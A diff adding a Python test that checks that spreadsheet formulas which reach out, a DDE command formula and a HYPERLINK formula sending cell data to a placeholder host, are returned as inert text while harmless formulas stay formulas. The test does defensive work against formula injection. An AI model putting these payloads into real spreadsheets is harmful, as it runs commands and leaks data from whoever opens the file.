@@ -312,3 +312,16 @@ def test_a_copy_of_a_csv_that_was_mended_is_accepted(pool: ReadingPool, tmp_path
     answer = town.run("deliver", back, "--accept", "--json")
     assert answer.code == 0, answer.out
     assert answer.json[0]["rows_read"] == 2
+
+
+def test_a_formula_of_the_sender_that_reaches_out_goes_back_as_text(pool: ReadingPool, tmp_path: Path):
+    path = sent(tmp_path / "lijst.xlsx")
+    book = openpyxl.load_workbook(path)
+    calls = ["=cmd|'/c calc'!A0", '=HYPERLINK("http://x.example/?"&A3,"klik")', "=1+1", '=IF(A3="a|b",1,2)']
+    for at, text in enumerate(calls, start=3):
+        book["Cijfers"].cell(at, 6).value = text
+    book.save(path)
+    back = given(pool, path, [WRONG])["Cijfers"]
+    assert [(back.cell(at, 6).value, back.cell(at, 6).data_type) for at in range(3, 7)] == list(
+        zip(calls, ["s", "s", "f", "f"], strict=True)
+    )
